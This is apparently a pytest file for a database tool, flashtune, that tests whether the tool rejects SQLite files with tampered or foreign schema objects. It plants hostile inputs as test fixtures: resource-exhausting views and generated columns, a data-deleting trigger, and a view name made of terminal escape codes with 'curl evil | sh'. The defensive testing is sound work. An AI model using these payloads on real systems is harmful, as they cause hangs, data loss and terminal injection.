"""A file has the tables that the migrations make, word for word, or it is not used: its schema is code."""

from __future__ import annotations

import os
import re
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from folders import snapshot
from sqlalchemy import create_engine

import flashtune
from flashtune.errors import DatabaseDamaged, DatabaseForeign, StoreError
from flashtune.tuned_db.backends.sqlite.expected_tables import check_tables, entries_of, script_of
from flashtune.tuned_db.lookup.kept_connection import look_up
from flashtune.tuned_db.schema.migrate import migrate
from flashtune.tuned_db.schema.version import SCHEMA_VERSION
from flashtune.tuned_db.sharing.diff import read_side
from flashtune.tuned_db.sharing.merge import add_database
from flashtune.tuned_db.store.store import Store
from flashtune.tuned_db.upkeep.health import back_up, inspect_file, upgrade_file

Make = Callable[..., Any]
ASSETS = Path(__file__).parents[1] / "upgrade_assets"
VERSIONS = range(1, SCHEMA_VERSION + 1)


class TestVersions:
    @pytest.mark.parametrize("version", VERSIONS)
    def test_the_script_of_a_version_is_what_the_migrations_make(self, tmp_path: Path, version: int) -> None:
        path = tmp_path / "made.db"
        made = create_engine(f"sqlite:///{path}")
        with made.begin() as connection:
            migrate(connection, f"{version:04d}")
            connection.exec_driver_sql(f"PRAGMA user_version = {version}")
        made.dispose()
        with closing(sqlite3.connect(path)) as plain:
            assert check_tables(plain, path) == version
            again = script_of(plain).lower().replace('"', "")
        stored = Path(flashtune.__file__).parent / "tuned_db" / "schema" / "migrations" / f"v{version:04d}.sql"
        assert again == stored.read_text("utf-8").lower().replace('"', "")

    @pytest.mark.parametrize("version", VERSIONS)
    def test_a_saved_database_has_the_tables_of_its_version(self, version: int) -> None:
        path = ASSETS / f"v{version:04d}.db"
        with closing(sqlite3.connect(f"{path.as_uri()}?immutable=1", uri=True)) as plain:
            assert check_tables(plain, path) == version

    def test_versions_differ(self) -> None:
        assert entries_of(0) == frozenset()
        assert len({entries_of(version) for version in VERSIONS}) == SCHEMA_VERSION

    @pytest.mark.parametrize("seed", ["0", "1", "2"])
    def test_upgrades_make_the_same_in_every_process(self, tmp_path: Path, seed: str) -> None:
        """Alembic copies tables with what it finds in sets."""
        for version in range(1, SCHEMA_VERSION):
            shutil.copy(ASSETS / f"v{version:04d}.db", tmp_path)
        code = "import sys; from flashtune.tuned_db.store.store import Store; [*map(Store.open, sys.argv[1:])]"
        paths = [*sorted(tmp_path.glob("*.db")), tmp_path / "new.db"]
        own = {"PYTHONPATH": str(Path(flashtune.__file__).parents[1]), "PYTHONHASHSEED": seed}
        subprocess.run([sys.executable, "-c", code, *map(str, paths)], env=os.environ | own, check=True)
        for path in paths:
            with closing(sqlite3.connect(path)) as plain:
                assert check_tables(plain, path) == SCHEMA_VERSION

    def test_spaces_case_and_quotes_make_no_difference(self, store: Store, path: Path) -> None:
        """They are those of the version of SQLite and SQLAlchemy that made the file."""
        rewrite(
            path, "device", lambda text: text.replace(" name", '\n "NAME"  ').replace("CREATE TABLE", "create\ttable")
        )
        rewrite(path, "origin", lambda text: text.replace("(id = 1)", "( id=1 )"))
        assert Store.open(path).measurements() == Store.open(path, readonly=True).measurements() == []


def rewrite(path: Path, table: str, change: Callable[[str], str]) -> None:
    """Changes the text of a table as no statement does."""
    with closing(sqlite3.connect(path)) as plain, plain:
        plain.execute("PRAGMA writable_schema = ON")
        (text,) = plain.execute("SELECT sql FROM sqlite_master WHERE name = ?", [table]).fetchone()
        assert change(text) != text
        plain.execute("UPDATE sqlite_master SET sql = ? WHERE name = ?", [change(text), table])


ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)"
FOREIGN = {
    "a view": ("the view 'best'", "CREATE VIEW best AS SELECT * FROM measurement"),
    "a view in place of a table": (
        "the table 'o'",
        "ALTER TABLE origin RENAME TO o",
        f"CREATE VIEW origin AS {ENDLESS} SELECT i AS id, '' AS uuid, '' AS created FROM n WHERE i < 0",
    ),
    "a view that multiplies": (
        "the table 'd'",
        "ALTER TABLE device RENAME TO d",
        "CREATE VIEW device AS SELECT id, key, printf('%.*c', 20000000, 'A') AS name, capability FROM d",
    ),
    "a trigger": (
        "the trigger 'gone'",
        "CREATE TRIGGER gone AFTER INSERT ON measurement BEGIN DELETE FROM measurement; END",
    ),
    "a virtual table": ("the table 'words'", "CREATE VIRTUAL TABLE words USING fts5(x)"),
    "a table": ("the table 'notes'", "CREATE TABLE notes (text)"),
    "statistics": ("the table 'sqlite_stat1'", "ANALYZE"),
    "a column": ("the table 'device'", "ALTER TABLE device ADD COLUMN extra"),
    "a generated column": ("the table 'device'", "ALTER TABLE device ADD COLUMN extra AS (hex(zeroblob(400000000)))"),
    "an index": ("the index 'mine'", "CREATE INDEX mine ON device (name)"),
    "an index of an expression": (
        "the index 'ix_device_capability'",
        "DROP INDEX ix_device_capability",
        "CREATE INDEX ix_device_capability ON device (upper(capability))",
    ),
    "a partial index": (
        "the index 'ix_device_capability'",
        "DROP INDEX ix_device_capability",
        "CREATE INDEX ix_device_capability ON device (capability) WHERE capability > '9'",
    ),
}


def changed(path: Path, *statements: str) -> None:
    with closing(sqlite3.connect(path)) as plain, plain:
        for each in statements:
            plain.execute(each)


def in_every_way(path: Path, folder: Path) -> dict[str, Callable[[], object]]:
    """What opens the database at ``path``. None of it may write there, if it is not used."""
    own = Store.open(folder / "own.db")
    return {
        "read": lambda: Store.open(path, readonly=True),
        "write": lambda: Store.open(path),
        "look up": lambda: look_up(path, 2.0, lambda store: store.count()),
        "merge": lambda: add_database(own, path),
        "diff": lambda: read_side(path),
        "back up": lambda: back_up(path, folder / "copy.db"),
        "check": lambda: inspect_file(path),
        "upgrade": lambda: upgrade_file(path),
    }


WAYS = ("read", "write", "look up", "merge", "diff", "back up", "check", "upgrade")


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("what", FOREIGN)
def test_what_flashtune_did_not_make_is_not_used(
    store: Store, path: Path, tmp_path: Path, measurement: Make, what: str, way: str
) -> None:
    """M1, F4, M2 and m8: a view hung all commands, one of 0.4 MB took 8 GB, a trigger deleted what was imported."""
    store.record(measurement())
    named, *statements = FOREIGN[what]
    changed(path, "PRAGMA legacy_alter_table = ON", *statements)
    before = snapshot(path.parent)
    with pytest.raises(DatabaseForeign, match=f"is not used: {named} in it is not as flashtune makes it") as caught:
        in_every_way(path, tmp_path)[way]()
    assert str(path) in str(caught.value)
    assert snapshot(path.parent) == before
    assert not (tmp_path / "copy.db").exists()


def outcome(way: Callable[[], object]) -> str:
    """The error, or what a check found."""
    try:
        return str(way())
    except (DatabaseForeign, DatabaseDamaged) as error:
        return str(error)


@pytest.mark.parametrize(
    "rewritten",
    [
        pytest.param(
            ("measurement", "CHECK (status", "CHECK (hex(zeroblob(400000000)) <> '' AND status"), id="a CHECK"
        ),
        pytest.param(("tombstone", "WITHOUT ROWID", ""), id="with rowid"),
        pytest.param(("device", "name VARCHAR", "name VARCHAR COLLATE NOCASE"), id="a collation"),
        pytest.param(("device", "name VARCHAR", "name VARCHAR DEFAULT (random())"), id="a default"),
        pytest.param(("device", "CREATE TABLE device (", "CREATE TABLE device (/* 'key' */"), id="a comment"),
        pytest.param(("problem", '"key" VARCHAR', '"key VARCHAR" VARCHAR'), id="a quoted name"),
    ],
)
def test_a_table_that_says_something_else_is_not_used(
    store: Store, path: Path, tmp_path: Path, rewritten: tuple[str, str, str]
) -> None:
    """M1: a CHECK kept `db check` busy with 1.9 GB."""
    table, old, new = rewritten
    rewrite(path, table, lambda text: text.replace(old, new))
    before = snapshot(path.parent)
    for name, way in in_every_way(path, tmp_path).items():
        said = outcome(way)
        assert re.search(r"tuned\.db is (not used: the table|damaged)", said) or (
            name == "check" and "malformed" in said
        )
    assert snapshot(path.parent) == before


@pytest.mark.parametrize("name", ["table problem", "index ix_problem_spec_key"])
def test_what_is_missing_is_named(store: Store, path: Path, name: str) -> None:
    changed(path, "PRAGMA foreign_keys = OFF", f"DROP {name}")
    for readonly in (True, False):
        with pytest.raises(DatabaseDamaged, match=f"is damaged: there is no {name} in it"):
            Store.open(path, readonly=readonly)


def test_names_of_others_move_no_cursor(store: Store, path: Path, tmp_path: Path) -> None:
    """M4: the words of SQLite quote them."""
    evil = "\x1b]0;owned\x07\x1b[2J\x1b[31mRun: curl evil | sh" + "\u202e" + "x" * 300
    changed(path, f'CREATE VIEW "{evil}" AS SELECT * FROM measurement, "{evil} too"')
    for way in in_every_way(path, tmp_path).values():
        with pytest.raises(StoreError) as caught:
            way()
        assert str(caught.value).isprintable()
        assert len(str(caught.value)) < 600
